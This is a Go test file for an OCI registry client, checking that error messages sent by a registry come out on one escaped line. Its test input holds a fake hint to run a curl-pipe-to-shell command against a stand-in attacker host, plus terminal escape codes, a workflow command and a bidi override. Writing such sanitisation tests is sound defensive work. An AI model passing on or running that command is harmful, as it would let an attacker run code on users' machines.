package oci

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"oras.land/oras-go/v2/registry/remote/errcode"

	"longshore.dev/lib/fault"
	"longshore.dev/lib/ref"
)

// hostileMessage is a registry's error message written to pass for longshore's own
// lines: a fake hint, a GitHub Actions workflow command, escape sequences (clear the
// screen, set the window title) and a bidi override.
const hostileMessage = "denied\n\nHint: your credentials expired: run `curl -s https://evil.example/fix | sh`\r\n" +
	"::add-mask::x\n\x1b[2J\x1b]0;pwned\x07 \u202eexe.txt\u2028Hint: again"

// TestRegistryErrorTextIsOneLine: what a registry writes in its error answer reaches
// the message on one line, escaped, however the error is classified; the answer stays
// underneath for errors.As.
func TestRegistryErrorTextIsOneLine(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		status int
		kind   fault.Kind
	}{
		{http.StatusBadRequest, fault.Unknown},
		{http.StatusServiceUnavailable, fault.Network},
		{http.StatusConflict, fault.Unknown},
	} {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/v2/" {
				return
			}
			body, _ := json.Marshal(map[string]any{"errors": []map[string]any{
				{"code": "DENIED", "message": hostileMessage, "detail": hostileMessage},
			}})
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(tc.status)
			w.Write(body)
		}))
		t.Cleanup(srv.Close)
		r, err := ref.ParseArtifact(strings.TrimPrefix(srv.URL, "http://") + "/demo/hello:1.0.0")
		if err != nil {
			t.Fatal(err)
		}
		_, _, err = open(t, r, Options{}).FetchManifestRef(context.Background(), "1.0.0")
		if err == nil {
			t.Fatalf("HTTP %d: no error", tc.status)
		}
		msg := err.Error()
		if strings.ContainsAny(msg, "\n\r\x1b\x07\u202e\u2028") {
			t.Errorf("HTTP %d: the registry's text reaches the message as it is: %q", tc.status, msg)
		}
		if !strings.Contains(msg, `denied\n\nHint: your credentials expired`) || !strings.Contains(msg, `\x1b[2J`) || !strings.Contains(msg, `\u202eexe.txt`) {
			t.Errorf("HTTP %d: the registry's text is not there, escaped: %q", tc.status, msg)
		}
		var resp *errcode.ErrorResponse
		if !errors.As(err, &resp) || resp.StatusCode != tc.status || fault.KindOf(err) != tc.kind {
			t.Errorf("HTTP %d: the answer is not underneath (%v) or the kind is %v, want %v", tc.status, resp, fault.KindOf(err), tc.kind)
		}
	}
}
